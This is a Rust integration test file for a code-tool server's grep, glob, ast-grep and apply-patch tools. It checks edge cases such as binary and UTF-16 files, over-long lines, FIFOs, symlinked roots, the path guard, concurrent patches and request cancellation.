    common::git(&root, &["commit", "-q", "-m", "one"]);
    std::fs::create_dir_all(root.join("target")).unwrap();
    std::fs::write(root.join("target/built.rs"), "fn built() { println!(\"needle\"); }\n").unwrap();
    let mut c = sb.stdio();
    c.init(&Init::new(&root));
    let grep = c.tool_ok("grep", json!({ "pattern": "needle" }));
    let glob = c.tool_ok("glob", json!({ "pattern": "**/*.rs" }));
    let ast = c.tool_ok("ast-grep-search", json!({ "pattern": "println!($$$A)", "lang": "rust" }));
    for (tool, out) in [("grep", &grep), ("glob", &glob), ("ast-grep-search", &ast)] {
        assert!(out.text.contains("src/main.rs") && out.text.contains("src/kept.rs"), "{tool}: {}", out.text);
        assert!(!out.text.contains("target/built.rs"), "{tool}: gitignored: {}", out.text);
    }
    // Review YO: a leading `./` found nothing.
    let dotted = c.tool_ok("glob", json!({ "pattern": "./src/*.rs" }));
    assert!(dotted.text.contains("src/main.rs") && dotted.text.contains("src/kept.rs"), "{}", dotted.text);
    for pattern in ["./", "."] {
        let e = c.tool_err("glob", json!({ "pattern": pattern }));
        assert_eq!(e.code, -32602, "{pattern}: {e}");
    }
}

#[test]
fn grep_respects_gitignore_include_and_the_path_guard() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write(".gitignore", "target/\n");
    repo.write("src/main.rs", "fn main() {\n    needle();\n}\n");
    repo.write("src/notes.md", "needle in notes\n");
    repo.write("target/built.rs", "needle in build output\n");
    let c = client(&sb, &repo);
    let out = c.tool_ok("grep", json!({ "pattern": "needle" }));
    assert!(out.text.contains("src/main.rs:2:     needle();"), "{}", out.text);
    assert!(out.text.contains("src/notes.md:1: needle in notes"), "{}", out.text);
    assert!(!out.text.contains("target/"), "gitignored files are skipped: {}", out.text);
    // `$` at the end of a CRLF line, and of a last line without a line break (review YB).
    repo.write("crlf.txt", "needle crlf\r\nand a last needle crlf");
    let out = c.tool_ok("grep", json!({ "pattern": "needle crlf$" }));
    assert_eq!(out.data["matches"].as_array().map(Vec::len), Some(2), "{}", out.text);
    assert!(
        out.text.contains("crlf.txt:1: needle crlf\n") || out.text.contains("crlf.txt:1: needle crlf"),
        "{}",
        out.text
    );
    assert!(!out.text.contains('\r'), "{:?}", out.text);
    std::fs::remove_file(repo.path.join("crlf.txt")).unwrap();
    let only_rs = c.tool_ok("grep", json!({ "pattern": "NEEDLE", "include": "*.rs", "caseSensitive": false }));
    assert_eq!(only_rs.data["matches"].as_array().unwrap().len(), 1, "{}", only_rs.text);
    // The path guard: a missing directory and a file used as a directory are named.
    let e = c.tool_err("grep", json!({ "pattern": "x", "path": "src/nope/deeper" }));
    assert_eq!(e.code, 1002, "{e}");
    assert!(e.message.contains("src/nope") && e.message.contains("does not exist"), "{e}");
    let e = c.tool_err("grep", json!({ "pattern": "x", "path": "src/main.rs/inner" }));
    assert!(e.message.contains("src/main.rs") && e.message.contains("not a directory"), "{e}");
    // `file/` names a directory too (it searched the file before), for every tool with a path.
    for (tool, input) in [
        ("grep", json!({ "pattern": "needle", "path": "src/main.rs/" })),
        ("ast-grep-search", json!({ "pattern": "needle()", "lang": "rust", "path": "src/main.rs/" })),
    ] {
        let e = c.tool_err(tool, input);
        assert_eq!(e.code, -32602, "{tool}: {e}");
        assert!(e.message.contains("not a directory (the path ends with /)"), "{tool}: {e}");
    }
    c.tool_ok("grep", json!({ "pattern": "needle", "path": "src/" }));
    let e = c.tool_err("grep", json!({ "pattern": "x", "path": "../" }));
    assert!(e.message.contains("out of the root"), "{e}");
    let e = c.tool_err("grep", json!({ "pattern": "(" }));
    assert_eq!(e.code, 1006, "{e}");
    // A matching line that is not UTF-8 does not end its file's search; git's directories,
    // nested ones included, are never searched.
    std::fs::write(repo.path.join("src/latin1.txt"), b"zebra one\n\xff zebra two\nzebra three\n").unwrap();
    // A binary file gives no matches, also none before a NUL byte far into it.
    let mut binary = b"zebra early\n".to_vec();
    binary.extend(std::iter::repeat_n(b'x', 300_000));
    binary.extend(b"\n\0zebra late\n");
    std::fs::write(repo.path.join("src/blob.bin"), binary).unwrap();
    repo.write("vendor/lib/.git/config", "zebra in a nested git directory\n");
    let out = c.tool_ok("grep", json!({ "pattern": "zebra" }));
    let paths: Vec<&str> =
        out.data["matches"].as_array().unwrap().iter().map(|m| m["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["src/latin1.txt"; 3], "{}", out.text);
    assert!(out.text.contains("src/latin1.txt:2: \u{fffd} zebra two"), "{}", out.text);
    // Also when the limit is reached before the NUL byte: the rest of the file is read.
    let mut binary = b"zebra one\nzebra two\n".to_vec();
    binary.extend(std::iter::repeat_n(b'x', 300_000));
    binary.extend(b"\n\0\n");
    std::fs::write(repo.path.join("src/early.bin"), binary).unwrap();
    let out = c.tool_ok("grep", json!({ "pattern": "zebra", "path": "src/early.bin", "limit": 1 }));
    assert_eq!(out.data["matches"], json!([]), "{}", out.text);
    // A UTF-16 file (with its byte order mark) is text, also when the limit stops its
    // search early: its raw bytes are full of NULs.
    let mut utf16 = vec![0xFF, 0xFE];
    for line in std::iter::repeat_n("zebra sixteen\n", 20_000) {
        utf16.extend(line.encode_utf16().flat_map(u16::to_le_bytes));
    }
    std::fs::write(repo.path.join("src/wide.txt"), utf16).unwrap();
    let out = c.tool_ok("grep", json!({ "pattern": "zebra", "path": "src/wide.txt", "limit": 2 }));
    assert_eq!(out.data["matches"].as_array().map(Vec::len), Some(2), "{}", out.text);
    std::fs::remove_file(repo.path.join("src/wide.txt")).unwrap();
    // The NUL byte in what the search had already read when it stopped (not read again),
    // and in the first line of the next buffer.
    for (name, at) in [("near.bin", 10usize), ("edge.bin", 64 * 1024 - 20), ("next.bin", 64 * 1024 + 20)] {
        let mut binary = b"zebra one\nzebra two\n".to_vec();
        binary.extend(std::iter::repeat_n(b'x', at));
        binary.extend(b"\0\n");
        binary.extend(std::iter::repeat_n(b'y', 200_000));
        std::fs::write(repo.path.join("src").join(name), binary).unwrap();
        let out = c.tool_ok("grep", json!({ "pattern": "zebra", "path": format!("src/{name}"), "limit": 1 }));
        assert_eq!(out.data["matches"], json!([]), "{name}: {}", out.text);
    }
    // A line over 16 MiB ends its file's search, which the answer names; the other files
    // are searched (before, a 300 MB line took 600 MB).
    let mut long = b"zebra first\n".to_vec();
    long.extend(std::iter::repeat_n(b'x', 17 << 20));
    long.extend(b" zebra\n");
    std::fs::write(repo.path.join("src/long.txt"), long).unwrap();
    let out = c.tool_ok("grep", json!({ "pattern": "zebra", "path": "src", "include": "*.txt" }));
    assert!(out.text.contains("1 file not searched past a line over 16 MiB: src/long.txt"), "{}", out.text);
    assert_eq!(out.data["longLines"], json!(["src/long.txt"]), "{}", out.data);
    assert!(out.text.contains("src/latin1.txt:1: zebra one"), "{}", out.text);
    assert!(!out.text.contains("src/long.txt:1"), "a file not read to its end lists nothing: {}", out.text);
    std::fs::remove_file(repo.path.join("src/long.txt")).unwrap();
    // PROTOCOL.md §3: -32602 is input that does not match the offered schema (which says
    // what the bounds are), 1006 input that matches it but cannot be used (a bad glob, as a
    // bad regex).
    let offers = c.tool_ok("tools", json!({})).data;
    let grep = offers["tools"].as_array().unwrap().iter().find(|t| t["name"] == "grep").unwrap().clone();
    let props = &grep["inputSchema"]["properties"];
    assert_eq!(
        (props["limit"]["minimum"].clone(), props["limit"]["maximum"].clone()),
        (json!(1), json!(5000)),
        "{grep}"
    );
    assert_eq!(props["pattern"]["minLength"], json!(1), "{grep}");
    for input in
        [json!({ "pattern": "x", "limit": 0 }), json!({ "pattern": "x", "limit": 5001 }), json!({ "pattern": "" })]
    {
        assert_eq!(c.tool_err("grep", input.clone()).code, -32602, "{input}");
    }
    let e = c.tool_err("grep", json!({ "pattern": "x", "include": "[" }));
    assert_eq!(e.code, 1006, "{e}");
    assert!(e.message.contains("include"), "{e}");
    let e = c.tool_err("glob", json!({ "pattern": "[" }));
    assert_eq!(e.code, 1006, "{e}");
    assert_eq!(c.tool_err("glob", json!({ "pattern": "" })).code, -32602);
    // A glob too large to compile is an error naming it (its start only), not a panic; so
    // is a long invalid regex (echoed by its start, not twice in full).
    let e = c.tool_err("glob", json!({ "pattern": "a?".repeat(100_000) }));
    assert_eq!(e.code, 1006, "{e}");
    assert!(e.message.contains("too large to compile") && e.message.contains("200000 bytes in all"), "{e}");
    assert!(e.message.len() < 1_000, "{} bytes", e.message.len());
    let e = c.tool_err("grep", json!({ "pattern": "x", "include": "a?".repeat(300_000) }));
    assert_eq!(e.code, 1006, "{e}");
    assert!(e.message.contains("include") && e.message.contains("too large to compile"), "{e}");
    let e = c.tool_err("grep", json!({ "pattern": format!("({}", "a".repeat(1_000_000)) }));
    assert_eq!(e.code, 1006, "{e}");
    assert!(e.message.len() < 3_000, "{} bytes", e.message.len());
    // The error shows the caller's pattern, not the search's wrapping of it (`(?:(`).
    let e = c.tool_err("grep", json!({ "pattern": "a)" }));
    assert_eq!(e.code, 1006, "{e}");
    assert!(e.message.contains("unopened group") && !e.message.contains("(?:"), "{e}");
    // So does an error found when the pattern is translated (an unknown Unicode class).
    let e = c.tool_err("grep", json!({ "pattern": r"x\p{Nope}" }));
    assert_eq!(e.code, 1006, "{e}");
    assert!(e.message.contains("Unicode property not found") && !e.message.contains("(?:"), "{e}");
    let e = c.tool_err("ast-grep-search", json!({ "pattern": "let a = 1; let b = 2;", "lang": "rust" }));
    assert_eq!(e.code, 1006, "{e}");
    assert!(e.message.contains("Multiple AST nodes"), "{e}");
    // A pattern with a line break: lines are searched one at a time, so a match cannot
    // span two; an empty result says so (it answered a bare "No matches found" for text
    // that is there), and an optional line break still matches within a line.
    repo.write("src/two.txt", "needle here\nneedle again\n");
    for p in ["needle here\nneedle", r"here\nneedle", r"here\x0Aneedle"] {
        let out = c.tool_ok("grep", json!({ "pattern": p, "path": "src/two.txt" }));
        assert!(
            out.text.starts_with(
                "No matches found. The pattern holds a line break (\\n), and grep searches one line at a time"
            ),
            "{p:?}: {}",
            out.text
        );
    }
    for p in [r"again\n?", r"again(\r?\n)?", r"again|\n"] {
        let out = c.tool_ok("grep", json!({ "pattern": p, "path": "src/two.txt" }));
        assert!(out.text.starts_with("src/two.txt:2: needle again"), "{p:?}: {}", out.text);
    }
    let out = c.tool_ok("grep", json!({ "pattern": r"needle\sagain", "path": "src/two.txt" }));
    assert!(out.text.contains("two.txt:2: needle again"), "{}", out.text);
}

/// A minified file's one long line is cut around the match, not returned whole (twice).
/// Files are read on several threads (grep.rs): the answer is still the one of a search of
/// one file after another, in the walk's order: a smaller `limit` gives the first matches
/// of a larger one, and the count of files ends at the file where the limit was reached.
#[test]
fn grep_answers_in_one_stable_order_whatever_reads_the_files() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    for d in 0..20 {
        for f in 0..20 {
            let i = d * 20 + f;
            // Some files are larger (more to read, so they finish later) and match twice.
            let body = if i % 7 == 0 {
                format!("zebra {i} a\n{}zebra {i} b\n", "filler line\n".repeat(20_000))
            } else {
                format!("zebra {i}\n")
            };
            repo.write(&format!("tree/d{d:02}/f{f:02}.txt"), &body);
        }
    }
    let c = client(&sb, &repo);
    let matches = |v: &serde_json::Value| -> Vec<(String, u64)> {
        v["matches"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| (m["path"].as_str().unwrap().to_string(), m["line"].as_u64().unwrap()))
            .collect()
    };
    let all = c.tool_ok("grep", json!({ "pattern": "zebra", "path": "tree", "limit": 5000 }));
    let every = matches(&all.data);
    assert_eq!(every.len(), 400 + 58, "{}", all.text);
    assert_eq!(all.data["filesSearched"], 400, "{}", all.data["filesSearched"]);
    assert_eq!(all.data["truncated"], false);
    for limit in [1usize, 2, 37, 150, 399, 457, 458] {
        let out = c.tool_ok("grep", json!({ "pattern": "zebra", "path": "tree", "limit": limit }));
        let got = matches(&out.data);
        assert_eq!(got, every[..limit.min(every.len())], "limit {limit}");
        assert_eq!(out.data["truncated"], limit < every.len(), "limit {limit}");
        // Every file matches: the files counted are those of the matches kept, and the
        // one whose match did not fit.
        let mut files: Vec<&str> = every[..(limit + 1).min(every.len())].iter().map(|m| m.0.as_str()).collect();
        files.dedup();
        assert_eq!(out.data["filesSearched"], files.len(), "limit {limit}");
    }
}

/// A worker reads a file with more room than the answer has left for it: what it finds
/// before a failure further on (a line over 16 MiB) is kept when a search of one file after
/// another stopped at its limit before that line (review YH: the file's matches were
/// dropped, the file named as not searched, and later files' matches taken instead).
#[test]
fn grep_stopped_at_its_limit_before_a_long_line_keeps_what_came_before() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    for i in 0..200 {
        repo.write(&format!("t/f{i:03}.txt"), &format!("needle {i}\n"));
    }
    // The walk lists a folder's files in the directory's order: the 66th is the first of
    // the second batch of 64.
    let mut order: Vec<String> = std::fs::read_dir(repo.path.join("t"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    let long = order.remove(65);
    let mut body = b"needle x0\nneedle x1\nneedle x2\nneedle x3\nneedle x4\n".to_vec();
    body.extend(std::iter::repeat_n(b'y', 17 << 20));
    body.extend(b"\nneedle x5\n");
    std::fs::write(repo.path.join("t").join(&long), body).unwrap();
    let c = client(&sb, &repo);
    let out = c.tool_ok("grep", json!({ "pattern": "needle", "path": "t", "limit": 67 }));
    let paths: Vec<&str> =
        out.data["matches"].as_array().unwrap().iter().map(|m| m["path"].as_str().unwrap()).collect();
    let mut expected: Vec<String> = order[..65].iter().map(|n| format!("t/{n}")).collect();
    expected.extend([format!("t/{long}"), format!("t/{long}")]);
    assert_eq!(paths, expected, "{}", out.text);
    assert_eq!(out.data["truncated"], true);
    assert_eq!(out.data["filesSearched"], 66);
    assert_eq!(out.data["longLinesTotal"], 0, "{}", out.text);
}

#[test]
fn grep_cuts_a_long_line_around_its_match() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("min.js", &format!("{}var needle=1;{}\n", "x".repeat(200_000), "y".repeat(200_000)));
    let c = client(&sb, &repo);
    let out = c.tool_ok("grep", json!({ "pattern": "needle", "limit": 1 }));
    assert!(out.text.len() < 2_000, "{} bytes", out.text.len());
    assert!(out.text.contains("min.js:1: …") && out.text.contains("var needle=1;"), "{}", out.text);
    let hit = out.data["matches"][0]["text"].as_str().unwrap();
    assert!(hit.contains("needle") && hit.len() < 1_000, "{hit}");
}

#[test]
fn glob_lists_matching_files_newest_first() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("docs/old.md", "old\n");
    std::thread::sleep(std::time::Duration::from_millis(20));
    repo.write("docs/new.md", "new\n");
    repo.write("docs/skip.txt", "x\n");
    let c = client(&sb, &repo);
    let out = c.tool_ok("glob", json!({ "pattern": "*.md", "path": "docs" }));
    assert_eq!(out.data["files"], json!(["docs/new.md", "docs/old.md"]), "{}", out.text);
    let e = c.tool_err("glob", json!({ "pattern": "*.md", "path": "missing" }));
    assert!(e.message.contains("missing") && e.message.contains("does not exist"), "{e}");
}

/// A file name with a line break is one line of the file tools' texts (grep, glob, ast-grep), the break written
/// `\n` (before: the name was split over two lines); the data keeps the name.
#[test]
fn a_file_name_with_a_line_break_stays_on_one_line() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("two\nlines.md", "needle\n");
    let c = client(&sb, &repo);
    let out = c.tool_ok("glob", json!({ "pattern": "two*" }));
    assert_eq!(out.data["files"], json!(["two\nlines.md"]), "{}", out.text);
    assert!(out.text.starts_with("two\\nlines.md\n\n1 file"), "{}", out.text);
    let out = c.tool_ok("grep", json!({ "pattern": "needle" }));
    assert_eq!(out.data["matches"][0]["path"], json!("two\nlines.md"), "{}", out.data);
    assert!(out.text.starts_with("two\\nlines.md:1: needle\n"), "{}", out.text);
    // ast-grep-search's matches and ast-grep-replace's preview the same.
    repo.write("two\nlines.rs", "fn main() {}\n");
    let out = c.tool_ok("ast-grep-search", json!({ "pattern": "fn main() {}", "lang": "rust" }));
    assert!(out.text.starts_with("two\\nlines.rs:1: fn main() {}\n"), "{}", out.text);
    let out = c.tool_ok(
        "ast-grep-replace",
        json!({ "pattern": "fn main() {}", "rewrite": "fn start() {}", "lang": "rust", "dryRun": true }),
    );
    assert!(out.text.contains("two\\nlines.rs: 1 change") && out.text.contains("@@ two\\nlines.rs:1"), "{}", out.text);
}

#[test]
fn identical_searches_get_a_notice_then_are_refused() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("a.rs", "needle\n");
    let c = client(&sb, &repo);
    let input = json!({ "pattern": "needle" });
    for k in 1..=5 {
        let out = c.tool_ok("grep", input.clone());
        assert_eq!(out.text.contains("Notice:"), k >= 3, "call {k}: {}", out.text);
    }
    let e = c.tool_err("grep", input.clone());
    assert_eq!(e.code, 1003, "{e}");
    // Another search is not refused, and resets the streak.
    c.tool_ok("grep", json!({ "pattern": "other" }));
    assert!(!c.tool_ok("grep", input).text.contains("Notice:"));
}

/// A file that cannot be replaced (append-only or immutable) fails the patch before
/// anything is written, and a refused patch leaves none of the directories it made for
/// its new files. Before, the files ahead of it in the patch were written, and a refused
/// `Add File: newdir/sub/x` left `newdir/sub/` behind.
#[test]
fn apply_patch_checks_every_target_can_be_replaced_and_leaves_no_directories() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("a.txt", "hello\n");
    repo.write("imm.txt", "fixed\n");
    repo.write("log.txt", "kept\n");
    let chattr = |flag: &str, f: &str| {
        std::process::Command::new("chattr").arg(flag).arg(repo.path.join(f)).output().is_ok_and(|o| o.status.success())
    };
    if !chattr("+i", "imm.txt") || !chattr("+a", "log.txt") {
        chattr("-i", "imm.txt");
        println!("skipped: chattr +i / +a needs CAP_LINUX_IMMUTABLE and a file system with attributes");
        return;
    }
    let c = client(&sb, &repo);
    for (locked, says) in [("imm.txt", "append-only or immutable"), ("log.txt", "append-only or immutable")] {
        let body = format!(
            "*** Add File: newdir/sub/x.txt\n+x\n*** Update File: a.txt\n@@\n-hello\n+HELLO\n*** Update File: {locked}\n@@\n-{}\n+changed\n",
            if locked == "imm.txt" { "fixed" } else { "kept" }
        );
        let e = c.tool_err("apply-patch", patch(&body));
        assert!(e.message.contains(locked) && e.message.contains(says), "{e}");
        assert_eq!(read(&repo, "a.txt"), "hello\n", "{locked}: a file ahead of it was written");
        assert!(!repo.path.join("newdir").exists(), "{locked}: the directories made for the patch were left");
    }
    chattr("-i", "imm.txt");
    chattr("-a", "log.txt");
    // Once they can be, the same patch is applied, its directories made.
    c.tool_ok(
        "apply-patch",
        patch("*** Add File: newdir/sub/x.txt\n+x\n*** Update File: imm.txt\n@@\n-fixed\n+changed\n"),
    );
    assert_eq!(read(&repo, "newdir/sub/x.txt"), "x\n");
}

/// A FIFO in the project (a test fixture, or one a repository's script made) never holds a
/// file tool: the searches pass it over, and every patch that would read, replace, remove
/// or move onto it is refused by name, the FIFO left as it was. A hang fails the call's
/// timeout.
#[test]
fn the_file_tools_neither_hang_on_nor_write_into_a_fifo() {
    use std::os::unix::fs::FileTypeExt;
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("a.txt", "needle\n");
    repo.write("m.rs", "fn main() { let x = 1; }\n");
    for name in ["pipe.txt", "pipe.rs"] {
        let c = std::ffi::CString::new(repo.path.join(name).to_str().unwrap()).unwrap();
        // SAFETY: a NUL-terminated path.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0, "mkfifo {name}");
    }
    let c = client(&sb, &repo);
    let out = c.tool_ok("grep", json!({ "pattern": "needle" }));
    assert_eq!(out.data["matches"].as_array().map(Vec::len), Some(1), "{}", out.text);
    assert!(out.text.starts_with("a.txt:1:"), "{}", out.text);
    // A FIFO named as the path is refused by name: "No matches found" said the text was
    // not there, where nothing was searched.
    let not_searched = |tool: &str, input: serde_json::Value, name: &str| {
        let e = c.tool_err(tool, input);
        assert_eq!(e.code, -32602, "{tool}: {e}");
        assert!(e.message.contains(&format!("{name} is not a regular file or a directory")), "{tool}: {e}");
    };
    not_searched("grep", json!({ "pattern": "needle", "path": "pipe.txt" }), "pipe.txt");
    let out = c.tool_ok("glob", json!({ "pattern": "*.txt" }));
    assert_eq!(out.data["files"], json!(["a.txt"]), "{}", out.text);
    let out = c.tool_ok("ast-grep-search", json!({ "pattern": "let $A = $B", "lang": "rust" }));
    assert!(out.text.starts_with("m.rs:1:"), "{}", out.text);
    not_searched("ast-grep-search", json!({ "pattern": "let $A = $B", "lang": "rust", "path": "pipe.rs" }), "pipe.rs");
    not_searched(
        "ast-grep-replace",
        json!({ "pattern": "let $A = $B", "rewrite": "let $A = 2", "lang": "rust", "path": "pipe.rs" }),
        "pipe.rs",
    );
    not_searched("glob", json!({ "pattern": "*", "path": "pipe.txt" }), "pipe.txt");
    for body in [
        "*** Update File: pipe.txt\n@@\n-needle\n+bye\n",
        "*** Add File: pipe.txt\n+new\n",
        "*** Delete File: pipe.txt\n",
        "*** Update File: a.txt\n*** Move to: pipe.txt\n@@\n-needle\n+bye\n",
    ] {
        let e = c.tool_err("apply-patch", patch(body));
        assert!(e.message.contains("'pipe.txt': not a regular file"), "{body}: {e}");
    }
    for name in ["pipe.txt", "pipe.rs"] {
        let t = std::fs::symlink_metadata(repo.path.join(name)).unwrap().file_type();
        assert!(t.is_fifo(), "{name} is still a FIFO");
    }
    assert_eq!(read(&repo, "a.txt"), "needle\n");
}

/// Patches of one file sent at once on one connection all land: each reads and writes
/// under the root's edit lock. Before, 20 sent at once all said "Patch applied." and 3
/// were in the file (found by a review); `forge-lsp call`s in processes of their own take
/// the same lock.
#[test]
fn patches_sent_at_once_all_land() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    let n = 20;
    let text: String = (0..2 * n).map(|i| format!("line{i}\n")).collect();
    repo.write("multi.txt", &text);
    let patch = |i: usize| json!({ "patch": format!("*** Begin Patch\n*** Update File: multi.txt\n@@\n-line{i}\n+CHANGED{i}\n*** End Patch") });
    let c = client(&sb, &repo);
    let ids: Vec<i64> = (0..n)
        .map(|i| {
            c.send_request(
                "workspace/executeCommand",
                json!({ "command": "forge.apply-patch", "arguments": [patch(2 * i)] }),
            )
        })
        .collect();
    for id in ids {
        let r = c.wait_response(id, std::time::Duration::from_secs(60));
        assert!(r["result"]["text"].as_str().is_some_and(|t| t.starts_with("Patch applied.")), "{r}");
    }
    // The odd lines from processes of their own, at once.
    std::thread::scope(|s| {
        let calls: Vec<_> = (0..n)
            .map(|i| {
                let call = sb.call("apply-patch").input(patch(2 * i + 1)).cwd(&repo.path);
                s.spawn(move || call.run())
            })
            .collect();
        for h in calls {
            let out = h.join().unwrap();
            assert_eq!(out.code, 0, "{out:?}");
        }
    });
    let want: String = (0..2 * n).map(|i| format!("CHANGED{i}\n")).collect();
    assert_eq!(read(&repo, "multi.txt"), want);
}

/// A file over 64 MiB is not read to be edited (it took about four times its size in the
/// server's memory): the patch is refused naming its size; deleting it still works.
#[test]
fn apply_patch_does_not_read_a_file_too_large_to_edit() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    let big = repo.path.join("big.txt");
    let f = std::fs::File::create(&big).unwrap();
    f.set_len(65 * 1024 * 1024).unwrap();
    let c = client(&sb, &repo);
    let e = c.tool_err("apply-patch", patch("*** Update File: big.txt\n@@\n-x\n+y\n"));
    assert!(e.message.contains("big.txt") && e.message.contains("68157440 bytes, over the limit of 67108864"), "{e}");
    c.tool_ok("apply-patch", patch("*** Delete File: big.txt\n"));
    assert!(!big.exists());
}

/// A file that is not UTF-8 text (an image) cannot be edited or moved by a patch, which
/// says why and that Delete File removes it; the delete works (it was refused, as the
/// file could not be read).
#[test]
fn apply_patch_deletes_a_binary_file_it_cannot_edit() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    let img = repo.path.join("img.png");
    std::fs::write(&img, b"\x89PNG\r\n\x1a\n\x00\x00\xff\xfe").unwrap();
    let c = client(&sb, &repo);
    for body in ["*** Update File: img.png\n@@\n-x\n+y\n", "*** Update File: img.png\n*** Move to: assets/img.png\n"] {
        let e = c.tool_err("apply-patch", patch(body));
        assert!(
            e.message.contains("cannot patch 'img.png': not UTF-8 text: apply-patch edits and moves text files only (Delete File still removes it)"),
            "{body}: {e}"
        );
        assert!(img.exists() && !repo.path.join("assets").exists(), "{body}");
    }
    c.tool_ok("apply-patch", patch("*** Delete File: img.png\n"));
    assert!(!img.exists());
}

/// An absolute path through another name of the project's folder (a symbolic link to it,
/// as a shell's working directory or macOS's `/tmp` gives) is the path under the project:
/// every file tool refused it as outside the root, naming a root the caller never used
/// (review X). A link to somewhere else is still outside, and the last component is kept
/// as named: a link there is deleted, not what it points to.
#[test]
fn absolute_paths_through_a_link_to_the_project_are_inside_it() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("run.sh", "echo b\n");
    repo.write("q/a.txt", "needle\n");
    repo.write("target.txt", "kept\n");
    std::os::unix::fs::symlink(repo.path.join("target.txt"), repo.path.join("l")).unwrap();
    let alias = sb.root.join("alias");
    std::os::unix::fs::symlink(&repo.path, &alias).unwrap();
    let a = alias.display().to_string();
    let c = client(&sb, &repo);
    c.tool_ok("apply-patch", patch(&format!("*** Update File: {a}/run.sh\n@@\n-echo b\n+echo c\n")));
    assert_eq!(read(&repo, "run.sh"), "echo c\n");
    c.tool_ok("apply-patch", patch(&format!("*** Add File: {a}/new/n.txt\n+n\n")));
    assert_eq!(read(&repo, "new/n.txt"), "n\n");
    let out = c.tool_ok("grep", json!({ "pattern": "needle", "path": format!("{a}/q") }));
    assert!(out.text.starts_with("q/a.txt:1:"), "{}", out.text);
    let out = c.tool_ok("glob", json!({ "pattern": "*.txt", "path": format!("{a}/q") }));
    assert_eq!(out.data["files"], json!(["q/a.txt"]), "{}", out.text);
    c.tool_ok("grep", json!({ "pattern": "needle", "path": a.clone() }));
    // The link `l` named through the alias is the link: deleting it leaves its target.
    c.tool_ok("apply-patch", patch(&format!("*** Delete File: {a}/l\n")));
    assert!(std::fs::symlink_metadata(repo.path.join("l")).is_err() && repo.path.join("target.txt").exists());
    // A link in the project to the project itself, named through the alias, is that link
    // (review Y: it was taken for the root).
    std::os::unix::fs::symlink(&repo.path, repo.path.join("selfl")).unwrap();
    c.tool_ok("apply-patch", patch(&format!("*** Delete File: {a}/selfl\n")));
    assert!(std::fs::symlink_metadata(repo.path.join("selfl")).is_err() && repo.path.join("run.sh").exists());
    // A link to a folder that is not the project is outside it, as before.
    let elsewhere = sb.mkdir("elsewhere");
    std::fs::write(elsewhere.join("x.txt"), "x\n").unwrap();
    let e = c.tool_err("apply-patch", patch(&format!("*** Update File: {}/x.txt\n@@\n-x\n+y\n", elsewhere.display())));
    assert!(e.message.contains("is outside the root"), "{e}");
    let e = c.tool_err("grep", json!({ "pattern": "x", "path": format!("{a}/../elsewhere") }));
    assert!(e.message.contains("outside the root"), "{e}");
}

/// A read-only tool's call is dropped by `$/cancelRequest` and answered -32800, and a
/// search stops its walk: nothing is lost by stopping it. Before, a grep over a large tree
/// ran on for seconds after its cancel and then sent its whole result (review BB). A write
/// still runs to its end (`findings_tools.rs`).
#[test]
fn a_cancelled_search_is_answered_cancelled_and_stops() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("a.txt", "needle\n");
    let pauses = sb.mkdir("pauses");
    let data_dir = sb.data_dir.clone();
    let mut c = sb.stdio_with(|cmd| {
        cmd.arg("--data-dir").arg(&data_dir).env("FORGE_TEST_PAUSE_DIR", &pauses);
    });
    c.init(&Init::new(&repo.path));
    std::fs::write(pauses.join("grep.walk"), "").unwrap();
    let id = c.send_request(
        "workspace/executeCommand",
        json!({ "command": "forge.grep", "arguments": [{ "pattern": "needle" }] }),
    );
    assert!(
        common::wait_for(WAIT, || pauses.join("grep.walk.reached").exists().then_some(())).is_some(),
        "the search never reached its walk"
    );
    c.notify("$/cancelRequest", json!({ "id": id }));
    let r = c.wait_response(id, WAIT);
    assert_eq!(r["error"]["code"], json!(-32800), "answered cancelled while its walk was held: {r}");
    std::fs::remove_file(pauses.join("grep.walk")).unwrap();
    // The server serves on; the same search, not cancelled, finds the text.
    std::fs::remove_file(pauses.join("grep.walk.reached")).unwrap();
    let out = c.tool_ok("grep", json!({ "pattern": "needle" }));
    assert!(out.text.starts_with("a.txt:1:"), "{}", out.text);
}
